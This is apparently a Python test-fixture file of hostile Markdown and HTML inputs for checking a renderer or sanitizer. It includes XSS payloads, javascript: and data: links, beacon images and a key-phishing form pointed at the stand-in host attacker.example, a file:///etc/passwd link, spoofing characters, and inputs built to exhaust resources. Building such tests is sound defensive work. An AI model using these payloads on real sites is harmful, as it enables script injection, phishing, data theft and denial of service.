"""Markdown that tries to run, load, frame, imitate or exhaust: each case by what it tries.

``SENTINEL`` is where a request would go, ``alert`` what a script would call: a test sees either.
"""

import ast
import re

SENTINEL = "https://attacker.example"

_SCRIPTS = r"""
<script>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\t>alert(1)</script\n>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<img src=x onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img srcset="https://attacker.example/a.png 2x">
<picture><source srcset="https://attacker.example/a.png"><img></picture>
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<input autofocus onfocus=alert(1)>
<p onmouseover=alert(1) style="position:fixed;inset:0">x</p>
<x tabindex=1 onfocus=alert(1) autofocus>
<iframe src="javascript:alert(1)"></iframe>
<iframe src=https://attacker.example></iframe>
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<link rel=stylesheet href=https://attacker.example/x.css>
<style>@import "https://attacker.example/x.css";</style>
<p style="background:url(https://attacker.example/a.png)">x</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%">Send your key</p>
<meta http-equiv=refresh content="0;url=https://attacker.example">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">
<base href=https://attacker.example/>
<form action=https://attacker.example><input name=key><button>Send</button></form>
<button formaction="javascript:alert(1)">x</button>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><img src=x onerror=alert(1)></template>
<plaintext>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<!DOCTYPE html SYSTEM "https://attacker.example/x.dtd">
</div></main></body></html><h1>Another page</h1>
</textarea></title></style></script><img src=x onerror=alert(1)>
<div id="content">imitates</div><a id="q" name="q">clobbers</a>
<h1 class="site tag accepting">Paid</h1>
<strong class="yes">Checked here</strong>
<video autoplay src=https://attacker.example/v.mp4></video>
<p dir=rtl lang=x contenteditable accesskey=a>x</p>
<a href="https://attacker.example" target=_top ping=https://attacker.example/p download>x</a>
<a href=/deployment>x</a>
<a href=//attacker.example>x</a>
<a href="https://user:password@attacker.example">x</a>
<a href="https://attacker.example\\@bounties.example">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
"""
_LINKS = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java\tscript:alert(1))
[x](javascript&#58;alert(1))
[x](\\javascript:alert(1))
[x](javascript://attacker.example/%0aalert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==)
[x](file:///etc/passwd)
[x](blob:https://attacker.example/1)
[x](intent://attacker.example#Intent;scheme=http;end)
[x](ftp://attacker.example)
[x](//attacker.example)
[x](/bounties/1)
[x](?show=all)
[x](https:attacker.example)
[x](https:\\\\attacker.example)
[x](http://user:password@attacker.example)
[https://bounties.example](https://attacker.example)
[x](https://attacker.example/%0d%0aSet-Cookie:a=b)
[x](https://attacker.example "onmouseover=alert(1)")
[x](https://attacker.example" onmouseover="alert(1))
[x](https://attacker.example'onmouseover='alert(1))
[x](https://attacker.example:99999)
[x](https://[::1)
[x](http://[::1]:80/)
[x](https://аttacker.example)
[x](https://attacker.example\u202e/gpj.exe)
[x](https://attacker.example\u2028)
[x](mailto:a@attacker.example?subject=x&body=y)
[x](mailto:)
[x](ethereum:0x0000000000000000000000000000000000000000@1/transfer)
[![x](https://attacker.example/a.png)](javascript:alert(1))
[![x](javascript:alert(1))](https://attacker.example)
[x][1]\n\n[1]: javascript:alert(1)
<javascript:alert(1)>
<https://attacker.example/"onmouseover=alert(1)>
<a@attacker.example>
"""
_IMAGES = r"""
![x](https://attacker.example/a.png)
![x](//attacker.example/a.png)
![x](/a.png)
![x](javascript:alert(1))
![x](data:image/svg+xml,<svg onload=alert(1)>)
![x"onerror="alert(1)](https://attacker.example/a.png)
![x](https://attacker.example/a.png"onerror="alert(1))
![<img src=x onerror=alert(1)>](https://attacker.example/a.png)
![x][i]\n\n[i]: https://attacker.example/a.png
[![x](https://attacker.example/a.png)](https://attacker.example)
"""
_TEXTS = r"""
`<script>alert(1)</script>`
```html\n<script>alert(1)</script>\n```
```" onload="alert(1)\nx\n```
    <script>alert(1)</script>
# <img src=x onerror=alert(1)>
| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |
**<script>alert(1)</script>**
\\<script>alert(1)\\</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
{{ config }}{% for x in y %}{{ ''.__class__ }}
\u202etxet desrever\u202c
\u2066hidden\u2069 \u200b\u2060\ufeff
\U000e0041\U000e0042 tags
Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319algo
pаypal
99999999999. a list
"""
_ESCAPE = re.compile(r"\\\\|\\n|\\t|\\x[0-9a-f]{2}|\\u[0-9a-f]{4}|\\U[0-9a-f]{8}")
CASES = {
    f"{kind} {number}": _ESCAPE.sub(lambda found: ast.literal_eval(f"'{found.group()}'"), case)
    for kind, block in {"element": _SCRIPTS, "link": _LINKS, "image": _IMAGES, "text": _TEXTS}.items()
    for number, case in enumerate((line for line in block.split("\n") if line.strip()), 1)
}
"""By a name. One line each, with ``\\n`` where a case has more."""

LARGE = {
    "brackets": "[" * 19_000,
    "image brackets": "![](a" * 9_000,
    "emphasis": "*a " * 19_000,
    "emphasis in words": "a**b" * 9_000,
    "underscores": "_a__" * 6_000,
    "backticks": " ".join("`" * count for count in range(400)),
    "open tags": "<a " * 19_000,
    "entities": "&amp;" * 19_000,
    "quotes in quotes": "> " * 100_000 + "hidden",
    "lists in lists": ("- " * 500 + "hidden\n") * 100,
    "a wide table": "|" + "a|" * 3_000 + "\n|" + "-|" * 3_000 + "\n|" + "b|" * 3_000,
    "a long table": "|a|b|\n|-|-|\n" + "|a|b|\n" * 10_000,
    "too many cells": "|a|b|c|d|\n|-|-|-|-|\n" + "|a|b|c|d|\n" * 20_000,
    "references": "\n".join(f"[a{n}]: https://b.example" for n in range(4_000)) + "\n\n" + "[a1] " * 4_000,
    "one word": "x" * 250_000,
    "a picture in text": "![x](data:image/png;base64," + "A" * 240_000 + ")",
    "links": "[a](https://b.example) " * 9_000,
    "headings": "# a\n" * 9_000,
    "strikes": "~~a" * 9_000,
}
"""What costs time or space, each within the longest page."""
